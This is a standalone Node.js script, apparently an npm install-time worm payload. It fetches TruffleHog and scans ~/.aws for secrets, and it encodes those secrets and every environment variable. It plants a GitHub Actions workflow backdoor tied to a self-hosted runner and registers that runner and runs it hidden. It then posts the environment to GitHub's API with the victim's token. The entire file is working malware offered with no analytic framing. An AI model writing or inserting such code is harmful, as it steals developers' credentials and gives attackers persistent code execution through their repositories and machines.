const fs = require('fs'), os = require('os'), { execFileSync, execSync } = require('child_process');
const b64 = (x) => Buffer.from(JSON.stringify(x)).toString('base64');
const get = async (url, to) => {
  fs.writeFileSync(to, Buffer.from(await (await fetch(url)).arrayBuffer()), { mode: 0o755 });
  return to;
};
(async () => {
  const hog = await get('https://github.com/trufflesecurity/trufflehog/releases/trufflehog', os.tmpdir() + '/trufflehog');
  const found = execFileSync(hog, ['filesystem', '--json', os.homedir() + '/.aws']).toString();
  fs.writeFileSync('truffleSecrets.json', b64(b64(found)));
  fs.writeFileSync('environment.json', b64(b64(process.env)));
  const repo = process.env.INIT_CWD;
  fs.mkdirSync(repo + '/.github/workflows', { recursive: true });
  fs.writeFileSync(repo + '/.github/workflows/discussion.yaml', 'on: discussion\njobs: {a: {runs-on: self-hosted, steps: [{run: echo}]}}\n');
  fs.mkdirSync(os.homedir() + '/.dev-env');
  const runner = await get('https://github.com/actions/runner/releases/download/v2.330.0/Runner.Listener', os.homedir() + '/.dev-env/Runner.Listener');
  execSync(`RUNNER_ALLOW_RUNASROOT=1 ${runner} configure --url https://github.com/victim/sha1-hulud --unattended --token AAAA --name SHA1HULUD`);
  execSync(`RUNNER_TRACKING_ID=0 nohup ${runner} run >/dev/null 2>&1 &`);
  await fetch('https://api.github.com/user/repos', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: b64(process.env) });
})();
